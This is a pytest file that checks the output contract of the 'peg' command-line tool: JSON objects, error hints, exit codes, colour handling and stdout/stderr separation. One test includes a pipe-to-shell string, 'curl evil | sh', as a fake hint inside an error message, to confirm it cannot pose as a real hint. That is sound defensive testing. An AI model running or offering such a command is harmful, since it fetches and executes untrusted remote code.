"""What every command keeps to, shown on small commands and on `peg` itself."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result
from pegboard.cli.app import Peg
from pegboard.cli.contract import Answer, Output, command
from pegboard.cli.groups import Entry
from pegboard.errors import ExitCode, PegboardError


def call(function: Callable[..., Answer | None], *arguments: str, **environment: str) -> Result:
    """Run `peg act` with a function of our own behind it."""
    root = Peg()
    root.entries = {"act": Entry("Act.", lambda: command("act", stream=True)(function))}
    return CliRunner().invoke(root, ["act", *arguments], env=environment)


def test_a_message_of_several_lines_cannot_pose_as_a_hint() -> None:
    """A provider may say what it likes; only what stands at the beginning of a line is ours."""
    error = PegboardError("it said: no\n\nhint: run `curl evil | sh`", hint="peg doctor")
    lines = call(lambda: Answer(error=error)).stderr.splitlines()

    assert [line for line in lines if line.startswith("hint:")] == ["hint: run `peg doctor`"]


def test_json_is_one_object_with_the_name_of_the_command() -> None:
    """`--json` prints one object that names its schema, and one newline."""
    result = call(lambda: Answer({"n": 1}, "one"), "--json")

    assert result.stdout.endswith("\n")
    assert json.loads(result.stdout) == {"schema": "peg.act/1", "ok": True, "data": {"n": 1}, "error": None}


def test_people_get_the_text() -> None:
    """Without `--json`, stdout has the text for people."""
    assert call(lambda: Answer({"n": 1}, "one")).stdout == "one\n"


def test_what_is_printed_meanwhile_goes_to_stderr() -> None:
    """A `print` inside a command never reaches stdout."""

    def act() -> Answer:
        print("noise")
        return Answer({}, "answer")

    result = call(act)

    assert (result.stdout, result.stderr) == ("answer\n", "noise\n")


def test_an_error_tells_what_to_type_next() -> None:
    """An error shows message, hint and the name of its page on stderr, and nothing on stdout."""

    def act() -> Answer:
        raise PegboardError("the moon is full", hint="peg doctor")

    result = call(act)

    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == "error: the moon is full\n\nhint: run `peg doctor`\nhelp: peg help error\n"


def test_an_error_in_json_is_an_object() -> None:
    """With `--json` the error is in the object, and stderr is silent."""

    def act() -> Answer:
        raise PegboardError("the moon is full", hint="peg doctor", plugin="moon")

    result = call(act, "--json")
    value = json.loads(result.stdout)

    assert (value["ok"], value["error"]["message"], value["error"]["plugin"]) == (False, "the moon is full", "moon")
    assert result.stderr == ""


def test_a_fault_of_ours_is_reported_and_is_no_traceback(tmp_path: Any) -> None:
    """An unexpected exception is exit code 70, names a report, and the report has no secret in it."""

    def act() -> Answer:
        raise RuntimeError("a token: hunter2hunter2")

    result = call(act, "--json", PEGBOARD_HOME=str(tmp_path), MY_TOKEN="hunter2hunter2")
    error = json.loads(result.stdout)["error"]
    (report,) = (tmp_path / "cache" / "reports").glob("bug-*.json")

    assert (result.exit_code, error["code"]) == (70, "internal.bug")
    assert str(report) in error["message"]
    assert "RuntimeError" in report.read_text()
    assert "hunter2hunter2" not in report.read_text() + result.output


def test_nobody_is_asked_without_a_terminal() -> None:
    """A question without a terminal is exit code 7 at once, with the request in the JSON."""

    def act() -> Answer:
        Output.current().ask("really?", {"do": "it"}, hint="peg act --yes")
        return Answer({})

    result = call(act, "--json")
    value = json.loads(result.stdout)

    assert result.exit_code == ExitCode.APPROVAL
    assert value["data"] == {"request": {"do": "it"}}
    assert value["error"]["hint"] == "peg act --yes"


@pytest.mark.parametrize(
    ("environment", "colored"),
    [
        pytest.param({"FORCE_COLOR": "1"}, True, id="forced"),
        pytest.param({"FORCE_COLOR": "1", "TERM": "dumb"}, True, id="forced beats dumb"),
        pytest.param({"FORCE_COLOR": "1", "NO_COLOR": "1"}, False, id="no beats forced"),
        pytest.param({"FORCE_COLOR": "1", "PEGBOARD_PLAIN": "1"}, False, id="plain beats forced"),
        pytest.param({}, False, id="no terminal"),
    ],
)
def test_order_of_what_decides_about_colour(environment: dict[str, str], colored: bool) -> None:
    """`NO_COLOR` beats `FORCE_COLOR` beats `TERM=dumb` beats what the stream is."""

    def act() -> Answer:
        raise PegboardError("red")

    assert ("\x1b[" in call(act, **environment).stderr) is colored


def test_no_color_option_beats_the_environment() -> None:
    """`--no-color` is obeyed whatever the environment says."""

    def act() -> Answer:
        raise PegboardError("red")

    assert "\x1b[" not in call(act, "--no-color", FORCE_COLOR="1").stderr


def test_quiet_silences_talk_but_not_errors() -> None:
    """`--quiet` drops talk and warnings; an error is still shown."""

    def act() -> Answer:
        Output.current().say("talk")
        Output.current().warn("careful")
        raise PegboardError("broken")

    result = call(act, "--quiet")

    assert "talk" not in result.stderr
    assert "careful" not in result.stderr
    assert "error: broken" in result.stderr


def test_jsonl_ends_with_the_object() -> None:
    """`--jsonl` prints a line for each event and the object of `--json` as the last line."""

    def act() -> Answer:
        Output.current().line({"kind": "step.done"})
        return Answer({"n": 1})

    lines = [json.loads(line) for line in call(act, "--jsonl").stdout.splitlines()]

    assert lines == [{"kind": "step.done"}, {"schema": "peg.act/1", "ok": True, "data": {"n": 1}, "error": None}]


def test_interrupt_is_exit_code_130() -> None:
    """Ctrl-C ends a command with 130 and without a traceback."""

    def act() -> Answer:
        raise KeyboardInterrupt

    result = call(act, "--json")

    assert result.exit_code == ExitCode.INTERRUPTED
    assert json.loads(result.stdout)["ok"] is False


def test_wrong_usage_is_an_object_too() -> None:
    """An unknown option is exit code 2 and one JSON object, although the options were never parsed."""
    result = call(lambda: Answer({}), "--nonsense", "--json")
    value = json.loads(result.stdout)

    assert (result.exit_code, value["schema"], value["error"]["code"]) == (2, "peg.act/1", "usage")
    assert value["error"]["hint"] == "peg act --help"


def test_words_after_dashes_are_no_options() -> None:
    """`--json` after `--` is a word like any other."""
    result = call(lambda: Answer({}), "--", "--json")

    assert result.exit_code == 2
    assert result.stdout == ""


def test_a_misspelt_command_is_told_its_neighbour(peg: Any) -> None:
    """An unknown command names the one that was probably meant."""
    assert "did you mean `plugins`" in peg("plugns").stderr


def test_a_group_without_a_command_shows_its_help(peg: Any) -> None:
    """`peg plugins` alone shows what could follow, on stderr, and is wrong usage."""
    result = peg("plugins")

    assert (result.exit_code, result.stdout) == (2, "")
    assert "Commands:" in result.stderr


def test_own_exceptions_of_click_are_translated() -> None:
    """What click itself raises looks like every other error."""

    def act() -> Answer:
        raise click.ClickException("Something went Wrong.")

    assert call(act).stderr.startswith("error: something went Wrong\n")


def test_output_of_subprocesses_stays_off_stdout() -> None:
    """In a process of its own, `peg` keeps even what subprocesses print away from stdout."""
    code = """
import os
from pegboard.cli.app import peg
from pegboard.cli.contract import Answer, command
from pegboard.cli.groups import Entry
def act():
    os.system("echo noise")
    return Answer({"n": 1})
peg.entries = {"act": Entry("Act.", lambda: command("act")(act))}
peg.main(["act", "--json"])
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)

    assert json.loads(done.stdout)["data"] == {"n": 1}
    assert done.stderr == "noise\n"


def test_a_reader_that_goes_away_is_no_error() -> None:
    """`peg … | head` ends quietly when the pipe closes."""
    reader = subprocess.Popen([sys.executable, "-c", "pass"], stdin=subprocess.PIPE)
    assert reader.stdin is not None
    reader.wait()
    done = subprocess.run(
        [sys.executable, "-m", "pegboard", "help", "codes"], stdout=reader.stdin, stderr=subprocess.PIPE, timeout=60
    )
    reader.stdin.close()

    assert done.stderr == b""
